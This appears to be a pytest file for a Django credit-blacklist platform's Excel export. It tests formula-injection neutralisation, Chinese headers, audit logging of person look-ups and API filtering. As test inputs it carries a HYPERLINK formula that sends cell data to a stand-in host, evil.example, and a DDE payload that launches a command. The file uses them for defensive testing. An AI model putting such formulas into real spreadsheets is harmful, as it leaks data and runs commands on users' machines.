"""Excel export of list entries: Chinese headers, formula injection neutralised, person look-ups logged."""
import io

import pytest
from django.contrib import admin
from django.test import RequestFactory
from openpyxl import load_workbook

from credit_platform import services as platform_services
from credit_platform.models import AuditEvent, SubjectKind
from lists import export
from lists.models import ListEntry
from tests.factories import make_citizen_id, make_uscc

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+2", "'=1+2"), ("+86 123", "'+86 123"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("示范区", "示范区"), ("", ""), (5, 5), (None, None)],
)
def test_neutralise(value, expected):
    assert export.neutralise(value) == expected


def workbook_of(response):
    content = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(content), read_only=True)


def test_export_has_chinese_headers_and_neutralises_formulas(world):
    evil = platform_services.subject_create(kind=SubjectKind.LEGAL_PERSON, identifier=make_uscc(60001, "620702"), name=HYPERLINK)
    world.published(subject=evil, decision_number="=cmd|' /C calc'!A0")
    world.published(subject=world.company, decision_number="（2026）甘0702执123号")

    response = export.export_entries_xlsx(ListEntry.objects.all())
    assert response["Content-Type"] == export.CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"] and ".xlsx" in response["Content-Disposition"]
    sheet = workbook_of(response).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("名称/姓名", "统一社会信用代码/身份证号码", "主体类型")
    assert len(rows) == 3
    by_number = {r[7]: r for r in rows[1:]}
    bad = by_number["'=cmd|' /C calc'!A0"]
    assert bad[0] == "'" + HYPERLINK
    assert (bad[3], bad[5], bad[10]) == ("失信黑名单", "拒不履行法院判决（失信被执行人）", "公示中")
    assert by_number["（2026）甘0702执123号"][1] == "91620702MAQJWYL7XF"
    # no cell of the workbook is a formula
    for r in rows:
        for value in r:
            assert not (isinstance(value, str) and value.startswith(export.FORMULA_PREFIXES))


def test_the_admin_action_logs_the_persons_it_exports(world):
    person = platform_services.subject_create(
        kind=SubjectKind.NATURAL_PERSON, identifier=make_citizen_id(3, division="620702"), name="=HYPERLINK(1)"
    )
    world.published(subject=person, decision_number="P-EXPORT-1")
    world.published(subject=world.company, decision_number="P-EXPORT-2")
    request = RequestFactory().get("/admin/lists/listentry/")
    request.user = world.user("court")

    response = export.export_entries_action(admin.site._registry[ListEntry], request, ListEntry.objects.all())
    sheet = workbook_of(response).worksheets[0]
    names = [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'=HYPERLINK(1)" in names
    viewed = AuditEvent.objects.filter(action="person_record_viewed", stream=f"credit_platform.subject:{person.pk}")
    assert viewed.count() == 1 and viewed.get().actor.username == "court"
    assert not AuditEvent.objects.filter(action="person_record_viewed", stream=f"credit_platform.subject:{world.company.pk}").exists()


def test_an_export_imports_back(world, api):
    """The export's first nine columns are headers the importer accepts."""
    world.published(subject=world.company, decision_number="（2026）甘0702执777号")
    response = export.export_entries_xlsx(ListEntry.objects.all())
    content = b"".join(response.streaming_content)
    from django.core.files.uploadedfile import SimpleUploadedFile

    answer = api("court").post(
        "/api/v1/list-entries/import/", {"file": SimpleUploadedFile("export.xlsx", content), "open_cases": "false"}, format="multipart"
    ).json()
    assert (answer["created"], answer["unchanged"], answer["errors"]) == (0, 1, [])


def test_api_export_applies_the_filters_and_the_callers_visibility(world):
    import io

    from openpyxl import load_workbook
    from rest_framework.test import APIClient

    entry = world.published()
    client = APIClient()
    client.force_authenticate(world.user("court"))
    response = client.get("/api/v1/list-entries/export/", {"list_type": "black"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert entry.decision_number in values
    response = client.get("/api/v1/list-entries/export/", {"list_type": "red"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet.max_row == 1  # the header only
    anonymous = APIClient().get("/api/v1/list-entries/export/")
    assert anonymous.status_code == 401


def test_the_export_freezes_its_header_and_says_how_the_entries_were_chosen(world):
    world.published(subject=world.company, decision_number="（2026）甘0702执888号")
    request = RequestFactory().get("/admin/lists/listentry/", {"list_type__exact": "black", "q": "金川"})
    request.user = world.user("court")

    response = export.export_entries_action(admin.site._registry[ListEntry], request, ListEntry.objects.all())

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    entries, about = workbook.worksheets
    assert entries.title == "名单" and entries.freeze_panes == "A2" and entries["A1"].font.bold
    assert entries.column_dimensions["A"].width == export.COLUMN_WIDTHS[0]
    rows = {r[0]: r[1] for r in about.iter_rows(min_row=2, values_only=True)}
    assert about["A1"].value == "信用名单条目导出"
    assert rows["条目数"] == 1
    assert rows["Search"] == "金川"
    assert rows["list"] == "black list (severely dishonest)"  # the filter's title and the chosen value, in words
